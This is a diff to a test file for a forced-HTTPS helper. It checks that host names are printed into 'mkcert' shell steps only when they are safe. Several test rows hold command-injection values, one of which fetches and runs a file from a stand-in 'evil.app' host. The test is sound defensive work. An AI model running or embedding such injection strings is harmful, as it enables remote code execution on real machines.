@@ -39,4 +39,19 @@ describe('forced-https', () => {
     expect(explain.checklist?.(input)[0]).toEqual({ key: 'kind.forcedHttps.rename', args: ['myapp.test'] });
     expect(testName('api.shop.app')).toBe('api.shop.test');
   });
+
+  // security-review row 3: "mkcert <host>" is a shell line; the hosts-file example a line in a system file.
+  it.each([
+    ['myapp.dev', 'myapp.test', 'myapp.dev'],
+    ['api.shop.app', 'api.shop.test', 'api.shop.app'],
+    ['a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app', 'myapp.test', { key: 'kind.forcedHttps.anyHost' }],
+    ['$(id).dev', 'myapp.test', { key: 'kind.forcedHttps.anyHost' }],
+    ['a&&b.dev', 'myapp.test', { key: 'kind.forcedHttps.anyHost' }],
+  ])('the host %j is printed as %j and %j', (host, renamed, mkcert) => {
+    const input = { url: 'https://x.dev/', host, port: 443, scheme: 'https:' };
+    expect(explain.checklist?.(input).slice(0, 2)).toEqual([
+      { key: 'kind.forcedHttps.rename', args: [renamed] },
+      { key: 'kind.forcedHttps.serveHttps', args: [mkcert] },
+    ]);
+  });
 });
